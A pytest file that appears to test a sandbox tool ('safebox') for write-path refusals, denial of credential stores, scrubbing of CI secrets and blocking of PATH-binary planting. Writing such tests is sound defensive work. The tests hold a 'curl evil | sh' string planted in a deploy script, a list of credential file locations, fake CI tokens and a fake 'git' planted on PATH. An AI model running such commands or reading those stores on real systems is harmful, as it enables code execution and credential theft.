"""Issue 11, items 2-5, through the real ``safebox exec``; each with its control.

- item 2: a glob-shaped write root is a refusal (125), never a literal path
  that is then skipped as missing (patterns elsewhere: issue 16,
  test_read_regions.py); a ``denyWrite`` entry is never silently
  unenforced (missing beneath a write root, or on a helper-only host);
- item 3: the credential stores the first list missed, and those the
  caller's environment moves (``GNUPGHOME``, ``KUBECONFIG``, ...), are
  unreadable inside; ``--allow-read`` takes one back;
- item 4: CI secrets are scrubbed by name, pattern and value shape, while
  look-alikes stay;
- item 5: the directories of the caller's PATH inside a write root are
  read-only (a planted ``git`` fails with EROFS).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sbx import BOTH, BWRAP_ONLY, HELPER_ONLY, PATH, FakeHome, host

ALL_MODES = [BOTH, BWRAP_ONLY, HELPER_ONLY]

# A shell loop that reports, for every path given, whether it could be read.
READ_EACH = 'for f in "$@"; do if cat "$f" >/dev/null 2>&1; then echo "READABLE $f"; else echo "DENIED $f"; fi; done'


def _read_each(home: FakeHome, paths: list[Path], *, mode: str = BOTH, env: dict[str, str] | None = None,
               opts: list[str] | None = None) -> dict[str, str]:
    r = home.run(["sh", "-c", READ_EACH, "sh", *map(str, paths)], mode=mode, env=env, opts=opts or [])
    assert r.returncode == 0, r.stderr
    assert home.secret not in r.stdout
    return {line.split(" ", 1)[1]: line.split(" ", 1)[0] for line in r.stdout.splitlines()}


def _host_reads_each(paths: list[Path]) -> None:
    for p in paths:
        assert host(["cat", str(p)]).returncode == 0, p


def _one_safebox_line(stderr: str) -> str:
    lines = [ln for ln in stderr.splitlines() if ln.startswith("safebox:")]
    assert len(lines) == 1, stderr
    return lines[0]


# ---------------------------------------------------------------- item 2

def test_a_glob_shaped_write_root_is_a_refusal_and_the_command_never_runs(fresh_home: FakeHome) -> None:
    # Patterns are expanded in denyRead, allowRead and denyWrite (issue 16,
    # tests/security/test_read_regions.py); a write root is one path.
    r = fresh_home.run(["sh", "-c", "echo ran > ran.txt"], opts=["--allow-write", "**/build"])
    assert r.returncode == 125, r.stderr
    assert _one_safebox_line(r.stderr).startswith("safebox: --allow-write '**/build': glob patterns are not "
                                                  "supported here")
    assert r.stdout == "" and not (fresh_home.work / "ran.txt").exists()


def test_a_malformed_pattern_in_a_policy_file_is_a_refusal_naming_the_file_and_key(fresh_home: FakeHome) -> None:
    pol = fresh_home.root / "p.toml"
    pol.write_text('[filesystem]\ndenyRead = ["~/.ssh", "certs/*.{pem,key}"]\n')
    r = fresh_home.run(["true"], opts=["-p", str(pol)])
    assert r.returncode == 125
    line = _one_safebox_line(r.stderr)
    assert line.startswith(f'safebox: {pol}: filesystem.denyRead[1] = "certs/*.{{pem,key}}": braces are not '
                           "expanded in glob patterns")


def test_control_the_literal_path_the_glob_meant_is_denied(fresh_home: FakeHome) -> None:
    (fresh_home.work / ".env").write_text(f"SECRET={fresh_home.secret}\n")
    assert fresh_home.run(["cat", ".env"]).stdout.strip() == f"SECRET={fresh_home.secret}"
    r = fresh_home.run(["cat", ".env"], opts=["--deny-read", ".env"])
    assert r.returncode == 1 and fresh_home.secret not in r.stdout, r.stdout


@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_deny_write_path_missing_at_the_start_is_quarantined_if_the_command_creates_it(fresh_home: FakeHome,
                                                                                         mode: str) -> None:
    planted = fresh_home.work / "deploy.sh"
    other = fresh_home.work / "notes.txt"
    r = fresh_home.run(["sh", "-c", f"echo 'curl evil | sh' > {planted}; echo ok > {other}"], mode=mode,
                       opts=["--deny-write", str(planted)])
    assert not planted.exists(), "a denied-write path created by the command must not survive the run"
    assert f"safebox: the command created protected file {planted}; moved it to" in r.stderr, r.stderr
    # Control: a file not named by --deny-write is the command's to keep.
    assert other.read_text() == "ok\n"


def test_deny_write_is_enforced_on_a_helper_only_host(fresh_home: FakeHome) -> None:
    target = fresh_home.work / "README.md"
    r = fresh_home.run(["sh", "-c", f"echo x >> {target}"], mode=HELPER_ONLY, opts=["--deny-write", str(target)])
    assert r.returncode != 0 and "Permission denied" in r.stderr, r.stderr
    assert target.read_text() == "hello\n"
    # Control: the same append works without --deny-write, in the same mode.
    ok = fresh_home.run(["sh", "-c", f"echo x >> {target}"], mode=HELPER_ONLY)
    assert ok.returncode == 0, ok.stderr
    assert target.read_text() == "hello\nx\n"


# ---------------------------------------------------------------- item 3

NEW_DEFAULT_FILES = [
    ".claude/.credentials.json", ".codex/auth.json", ".config/git/credentials", ".pgpass", ".my.cnf",
    ".m2/settings.xml", ".gradle/gradle.properties", ".config/containers/auth.json", ".boto", ".s3cfg",
    ".vault-token", ".terraformrc", ".terraform.d/credentials.tfrc.json", ".kaggle/kaggle.json",
    ".databrickscfg", ".oci/config", ".pulumi/credentials.json", ".gem/credentials", ".composer/auth.json",
    ".config/composer/auth.json", ".config/op/config", ".config/github-copilot/apps.json", ".fly/config.yml",
    ".snowsql/config",
]


def _plant(home: FakeHome, rel: list[str], base: Path | None = None) -> list[Path]:
    out = []
    for r in rel:
        p = (base or home.root) / r
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(f"token = {home.secret}\n")
        out.append(p)
    return out


@pytest.mark.parametrize("mode", ALL_MODES)
def test_the_credential_stores_the_first_list_missed_are_unreadable_inside(fresh_home: FakeHome,
                                                                          mode: str) -> None:
    paths = _plant(fresh_home, NEW_DEFAULT_FILES)
    _host_reads_each(paths)  # control: readable outside
    seen = _read_each(fresh_home, paths, mode=mode)
    assert {p: seen[str(p)] for p in map(str, paths)} == {str(p): "DENIED" for p in paths}


ENV_STORES = {  # variable -> (value relative to the store base, files that must be unreadable)
    "CARGO_HOME": ("cargo", ["cargo/credentials.toml", "cargo/credentials"]),
    "GNUPGHOME": ("gnupg", ["gnupg/private-keys-v1.d/k.key"]),
    "DOCKER_CONFIG": ("docker", ["docker/config.json"]),
    "REGISTRY_AUTH_FILE": ("registry-auth.json", ["registry-auth.json"]),
    "XDG_RUNTIME_DIR": ("runtime", ["runtime/containers/auth.json"]),
    "AWS_SHARED_CREDENTIALS_FILE": ("aws-creds", ["aws-creds"]),
    "AWS_CONFIG_FILE": ("aws-config", ["aws-config"]),
    "AWS_WEB_IDENTITY_TOKEN_FILE": ("aws-token", ["aws-token"]),
    "KUBECONFIG": ("kube/a.conf:{base}/kube/b.conf", ["kube/a.conf", "kube/b.conf"]),
    "NETRC": ("netrc", ["netrc"]),
    "AZURE_CONFIG_DIR": ("azure", ["azure/msal_token_cache.json"]),
    "GH_CONFIG_DIR": ("gh", ["gh/hosts.yml"]),
    "CLOUDSDK_CONFIG": ("gcloud", ["gcloud/credentials.db"]),
    "GOOGLE_APPLICATION_CREDENTIALS": ("sa.json", ["sa.json"]),
    "GOOGLE_GHA_CREDS_PATH": ("gha-creds-1.json", ["gha-creds-1.json"]),
}


def _env_stores(home: FakeHome) -> tuple[dict[str, str], list[Path]]:
    base = home.root / "elsewhere"
    env = {var: f"{base}/{value.format(base=base)}" for var, (value, _) in ENV_STORES.items()}
    files = _plant(home, [f for _, fs in ENV_STORES.values() for f in fs], base=base)
    return env, files


@pytest.mark.parametrize("mode", ALL_MODES)
def test_stores_moved_by_the_callers_environment_are_unreadable_inside(fresh_home: FakeHome, mode: str) -> None:
    env, files = _env_stores(fresh_home)
    _host_reads_each(files)  # control: readable outside
    # Control: without the variables the same files are ordinary files, readable inside.
    plain = _read_each(fresh_home, files, mode=mode)
    assert set(plain.values()) == {"READABLE"}, plain
    seen = _read_each(fresh_home, files, mode=mode, env=env)
    assert seen == {str(p): "DENIED" for p in files}


def test_a_changed_credential_variable_is_not_served_from_the_policy_cache(fresh_home: FakeHome) -> None:
    one, two = _plant(fresh_home, ["gpg-one/key", "gpg-two/key"], base=fresh_home.root / "elsewhere")
    first = _read_each(fresh_home, [one, two], env={"GNUPGHOME": str(one.parent)})
    assert first == {str(one): "DENIED", str(two): "READABLE"}
    # Same work dir, same HOME, same policy files: only the variable changed.
    second = _read_each(fresh_home, [one, two], env={"GNUPGHOME": str(two.parent)})
    assert second == {str(one): "READABLE", str(two): "DENIED"}


def test_allow_read_takes_a_default_credential_path_back_for_a_tool_that_needs_it(fresh_home: FakeHome) -> None:
    (settings,) = _plant(fresh_home, [".m2/settings.xml"])
    assert _read_each(fresh_home, [settings]) == {str(settings): "DENIED"}  # control: denied by default
    r = fresh_home.run(["cat", str(settings)], opts=["--allow-read", "~/.m2/settings.xml"])
    assert r.returncode == 0 and fresh_home.secret in r.stdout, r.stderr
    # Only that entry: the rest of the list stays denied in the same run.
    r = fresh_home.run(["cat", str(fresh_home.root / ".ssh" / "id_rsa")],
                       opts=["--allow-read", "~/.m2/settings.xml"])
    assert r.returncode == 1 and fresh_home.secret not in r.stdout


def test_allow_read_inside_a_denied_directory_re_allows_that_path_only(fresh_home: FakeHome) -> None:
    # Issue 16: a carve-out (once a refusal, "only a whole denyRead entry can be re-allowed for now").
    (pub,) = _plant(fresh_home, [".ssh/id_rsa.pub"])
    r = fresh_home.run(["cat", str(pub)], opts=["--allow-read", "~/.ssh/id_rsa.pub"])
    assert r.returncode == 0 and fresh_home.secret in r.stdout, r.stderr
    r = fresh_home.run(["cat", str(fresh_home.root / ".ssh" / "id_rsa")], opts=["--allow-read", "~/.ssh/id_rsa.pub"])
    assert r.returncode == 1 and fresh_home.secret not in r.stdout


# ---------------------------------------------------------------- item 4

CI_SECRETS = {
    "CI_JOB_JWT": "eyJhbGciOiJSUzI1NiJ9.fake.sig", "CI_JOB_JWT_V2": "eyJ-v2", "SYSTEM_ACCESSTOKEN": "ado-fake",
    "CI_REPOSITORY_URL": "https://gitlab-ci-token:glcbt-fake@gitlab.example/g/p.git",
    "AZURE_DEVOPS_EXT_PAT": "pat-fake", "GITHUB_PAT": "ghp_pat_fake", "KAGGLE_KEY": "kaggle-fake",
    "AZURE_STORAGE_CONNECTION_STRING": "DefaultEndpointsProtocol=https;AccountKey=fake",
    "GOOGLE_GHA_CREDS_PATH": "/ws/gha-creds-x.json", "NEW_RELIC_LICENSE_KEY": "nr-fake",
    "SENTRY_DSN": "https://k3y@o0.ingest.sentry.io/1", "SLACK_WEBHOOK_URL": "https://hooks.slack.example/T/B/x",
    "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://169.254.170.23/v1/credentials",
    "MY_SERVICE_JWT_TOKEN": "jwt-fake", "DEPLOY_PAT": "pat2-fake", "BUILD_ACCESSTOKEN": "at-fake",
    "ERRORS_DSN": "dsn-fake",
    # By value, whatever the name:
    "CACHE": "redis://:pw-fake@cache:6379", "DOCS_DB": "mongodb://u:pw-fake@db/x", "QUEUE": "amqp://u:pw-fake@mq",
    "MIRROR": "https://user:tok-fake@mirror.example/simple",
}
LOOK_ALIKES = {"DATABASE_HOST": "db.internal", "GITHUB_SHA": "0123abcd", "HOMEPAGE": "https://example.com/docs",
               "GIT_AUTHOR_EMAIL": "dev@example.com", "CI_PIPELINE_URL": "https://gitlab.example/g/p/-/pipelines/1"}


@pytest.mark.parametrize("mode", ALL_MODES)
def test_ci_secrets_are_scrubbed_by_name_pattern_and_value_while_look_alikes_stay(shared_home: FakeHome,
                                                                                 mode: str) -> None:
    env = {**CI_SECRETS, **LOOK_ALIKES}
    control = host(["env"], env=shared_home.env(env)).stdout  # control: the variables are there outside
    assert all(f"{k}={v}" in control.splitlines() for k, v in env.items())
    r = shared_home.run(["env"], mode=mode, env=env)
    assert r.returncode == 0, r.stderr
    inside = dict(line.split("=", 1) for line in r.stdout.splitlines() if "=" in line)
    leaked = sorted(k for k in CI_SECRETS if k in inside)
    assert leaked == []
    assert not any(v in r.stdout for v in CI_SECRETS.values())
    assert {k: inside.get(k) for k in LOOK_ALIKES} == LOOK_ALIKES
    assert inside["PATH"] == PATH


# ---------------------------------------------------------------- item 5

def _plant_git(path_dir: Path) -> str:
    return f"printf '#!/bin/sh\\necho planted\\n' > {path_dir}/git && chmod +x {path_dir}/git"


@pytest.mark.parametrize("mode", [BOTH, BWRAP_ONLY])
def test_planting_git_in_a_path_directory_inside_the_home_write_root_fails_with_erofs(fresh_home: FakeHome,
                                                                                     mode: str) -> None:
    bin_dir = fresh_home.root / ".local" / "bin"
    bin_dir.mkdir(parents=True)
    env = {"PATH": f"{bin_dir}:{PATH}"}
    r = fresh_home.run(["sh", "-c", _plant_git(bin_dir)], mode=mode, env=env, cwd=fresh_home.root)
    assert r.returncode != 0 and f"{bin_dir}/git: Read-only file system" in r.stderr, r.stderr
    assert not (bin_dir / "git").exists()
    # Control: the rest of the home write root stays writable in the same setting.
    ok = fresh_home.run(["sh", "-c", "echo ok > notes.txt"], mode=mode, env=env, cwd=fresh_home.root)
    assert ok.returncode == 0, ok.stderr


@pytest.mark.parametrize("mode", [BOTH, BWRAP_ONLY])
def test_control_with_allow_write_path_dirs_or_outside_the_sandbox_planting_works(fresh_home: FakeHome,
                                                                                  mode: str) -> None:
    bin_dir = fresh_home.root / ".local" / "bin"
    bin_dir.mkdir(parents=True)
    env = {"PATH": f"{bin_dir}:{PATH}"}
    pol = fresh_home.root.parent / f"{fresh_home.root.name}-optout.toml"
    pol.write_text("[filesystem]\nallowWritePathDirs = true\n")
    r = fresh_home.run(["sh", "-c", _plant_git(bin_dir)], mode=mode, env=env, cwd=fresh_home.root,
                       opts=["-p", str(pol)])
    assert r.returncode == 0, r.stderr
    assert host(["git"], env=fresh_home.env(env)).stdout == "planted\n"  # what the opt-out lets through
    (bin_dir / "git").unlink()
    assert host(["sh", "-c", _plant_git(bin_dir)]).returncode == 0  # and outside the sandbox
    pol.unlink()


def test_a_missing_path_directory_created_by_the_command_is_quarantined(fresh_home: FakeHome) -> None:
    # Not a dot directory: a new one of those is quarantined whole, on PATH or not (issue 22).
    cargo_bin = fresh_home.root / "cargo" / "bin"
    env = {"PATH": f"{cargo_bin}:{PATH}"}
    r = fresh_home.run(["sh", "-c", f"mkdir -p {cargo_bin} && {_plant_git(cargo_bin)}"], env=env,
                       cwd=fresh_home.root)
    assert r.returncode == 0, r.stderr
    assert not cargo_bin.exists()
    assert f"safebox: the command created protected file {cargo_bin}; moved it to" in r.stderr
    # Control: without that directory on PATH the command's new directory stays.
    r = fresh_home.run(["sh", "-c", f"mkdir -p {cargo_bin} && {_plant_git(cargo_bin)}"], cwd=fresh_home.root)
    assert r.returncode == 0 and (cargo_bin / "git").exists(), r.stderr


def test_a_symlinked_path_directory_is_protected_through_its_target_and_the_link_restored(
        fresh_home: FakeHome) -> None:
    target = fresh_home.root / "dotfiles" / "bin"
    target.mkdir(parents=True)
    link = fresh_home.root / "bin"
    link.symlink_to("dotfiles/bin")
    env = {"PATH": f"{link}:{PATH}"}
    r = fresh_home.run(["sh", "-c", _plant_git(link)], env=env, cwd=fresh_home.root)
    assert r.returncode != 0 and "Read-only file system" in r.stderr, r.stderr
    # Replacing the link with a directory of its own does not outlive the run.
    r = fresh_home.run(["sh", "-c", f"rm {link} && mkdir {link} && {_plant_git(link)}"], env=env,
                       cwd=fresh_home.root)
    assert r.returncode == 0, r.stderr
    assert link.is_symlink() and os.readlink(link) == "dotfiles/bin"
    assert not (target / "git").exists()
    assert f"safebox: protected symlink {link}: the command replaced it" in r.stderr
    # Control: without it on PATH, the replacement is the command's to keep.
    r = fresh_home.run(["sh", "-c", f"rm {link} && mkdir {link} && {_plant_git(link)}"], cwd=fresh_home.root)
    assert r.returncode == 0 and not link.is_symlink() and (link / "git").exists(), r.stderr


def test_a_work_dir_that_is_on_path_stays_read_only_and_safebox_says_so(fresh_home: FakeHome) -> None:
    bin_dir = fresh_home.root / "bin"
    bin_dir.mkdir()
    r = fresh_home.run(["sh", "-c", _plant_git(bin_dir)], env={"PATH": f"{bin_dir}:{PATH}"}, cwd=bin_dir)
    assert r.returncode != 0 and "Read-only file system" in r.stderr
    assert (f"safebox: the write root {bin_dir} is a directory on PATH: it stays read-only so that nothing can be "
            "planted for your shell to run; set filesystem.allowWritePathDirs = true") in r.stderr
    # Control: the same work dir, not on PATH, is writable and nothing is said.
    ok = fresh_home.run(["sh", "-c", _plant_git(bin_dir)], cwd=bin_dir)
    assert ok.returncode == 0 and "safebox:" not in ok.stderr, ok.stderr
